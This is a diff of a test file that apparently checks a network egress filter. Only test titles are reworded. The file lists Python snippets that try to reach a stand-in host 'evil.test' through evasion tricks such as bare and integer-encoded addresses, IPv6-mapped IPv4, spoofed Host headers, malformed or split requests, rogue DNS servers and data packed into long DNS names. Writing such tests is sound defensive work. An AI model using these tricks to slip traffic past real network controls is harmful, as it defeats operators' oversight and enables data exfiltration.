@@ -35,7 +35,7 @@ function attempt(
 }
 
 /**
- * The prelude of every script. `tell` opens a connection and sends parts one by one. `LIMIT` is how many
+ * The prelude of every script. `tell` opens a connection and sends the parts one by one. `LIMIT` is how many
  * seconds a script waits for a response: far more than any takes, unless the script overrides it.
  */
 export const PRELUDE = `
@@ -84,20 +84,20 @@ def ask(name, server='10.0.2.3', kind=1, over_tcp=False):
 
 export const ATTEMPTS: readonly Attempt[] = [
   attempt('a name that is not allowed', `curl('http://evil.test/')`, EVIL_HTTP),
-  attempt('the same by HTTPS', `curl('https://evil.test/')`, /^tls evil/),
+  attempt('a name that is not allowed, over HTTPS', `curl('https://evil.test/')`, /^tls evil/),
   attempt('another port', `curl('http://evil.test:8080/')`, EVIL_HTTP),
   attempt('TLS on another port', `tls('evil.test', 853, 'evil.test')`, /^tls evil/),
   attempt('a bare address', `curl('http://' + EVIL + '/')`, EVIL_HTTP, RANGE),
-  attempt('a bare address by HTTPS', `curl('https://' + EVIL + '/')`, /^tls evil/, RANGE),
-  attempt('a bare address by raw TCP', `tell(EVIL, 7777, b'x\\x01')`, /^tcp evil/, RANGE),
-  attempt('a bare address that says nothing', `rest(tcp(EVIL, 7777))`, /^tcp evil/, RANGE),
+  attempt('a bare address over HTTPS', `curl('https://' + EVIL + '/')`, /^tls evil/, RANGE),
+  attempt('a bare address over raw TCP', `tell(EVIL, 7777, b'x\\x01')`, /^tcp evil/, RANGE),
+  attempt('a bare address without sending anything', `rest(tcp(EVIL, 7777))`, /^tcp evil/, RANGE),
   attempt(
     'an IPv4 address in IPv6',
     `tell('::ffff:' + EVIL, 80, get(b'evil.test'), family=socket.AF_INET6)`,
     EVIL_HTTP,
   ),
   attempt(
-    'a number for an address',
+    'an address written as a number',
     `curl('http://%d/' % struct.unpack('>I', socket.inet_aton(EVIL)))`,
     EVIL_HTTP,
     RANGE,
@@ -131,14 +131,14 @@ export const ATTEMPTS: readonly Attempt[] = [
     RANGE,
   ),
   attempt('no Host at all', `tell(GOOD, 80, b'GET /nohost HTTP/1.0\\r\\n\\r\\n')`, /nohost/, RANGE),
-  attempt('an address for a Host', `tell(GOOD, 80, get(EVIL.encode()))`, /^http \w+ 203\.0\.113/, RANGE),
+  attempt('an address as the Host', `tell(GOOD, 80, get(EVIL.encode()))`, /^http \w+ 203\.0\.113/, RANGE),
   attempt(
     'empty lines before the request',
     `tell(GOOD, 80, b'\\r\\n\\r\\n' + get(b'evil.test'))`,
     EVIL_HOST,
     RANGE,
   ),
-  attempt('a method of its own', `tell(GOOD, 80, get(b'evil.test', method=b'PURGE'))`, EVIL_HOST),
+  attempt('a nonstandard method', `tell(GOOD, 80, get(b'evil.test', method=b'PURGE'))`, EVIL_HOST),
   attempt(
     'a request byte by byte',
     `tell(GOOD, 80, *[bytes([b]) for b in get(b'evil.test')], pause=0.002)`,
@@ -181,7 +181,7 @@ export const ATTEMPTS: readonly Attempt[] = [
     RANGE,
   ),
   attempt(
-    'a request sent late, cut in two',
+    'a request sent late, in two parts',
     `socket.gethostbyname('good.test'); s = tcp(GOOD, 7777); time.sleep(1.5); s.sendall(b'G'); time.sleep(0.3); s.sendall(get(b'evil.test')[1:]); print(rest(s))`,
     /^raw good G/,
     RANGE,
@@ -204,7 +204,7 @@ export const ATTEMPTS: readonly Attempt[] = [
     ['a leading blank', ' GET / HTTP/1.1'],
     ['a version in lower case', 'GET / http/1.1'],
     ['no version', 'GET /'],
-    ['a blank that only some servers know', 'GET\\x1c/ HTTP/1.1'],
+    ['whitespace that only some servers accept', 'GET\\x1c/ HTTP/1.1'],
   ].map(([title, line]) =>
     attempt(
       `a request line with ${title}`,
@@ -213,8 +213,8 @@ export const ATTEMPTS: readonly Attempt[] = [
       RANGE,
     ),
   ),
-  attempt('a name server of its own', `ask('a1.evil.test', EVIL)`, /^dns a1\.evil/),
-  attempt('a name server of its own over TCP', `ask('a2.evil.test', EVIL, over_tcp=True)`, /^dns a2\.evil/),
+  attempt('a different name server', `ask('a1.evil.test', EVIL)`, /^dns a1\.evil/),
+  attempt('a different name server over TCP', `ask('a2.evil.test', EVIL, over_tcp=True)`, /^dns a2\.evil/),
   attempt('data in long names', `ask('.'.join(['d' * 60] * 3) + '.evil.test')`, /^dns d{60}/),
   attempt(
     'a subdomain of an allowed name',
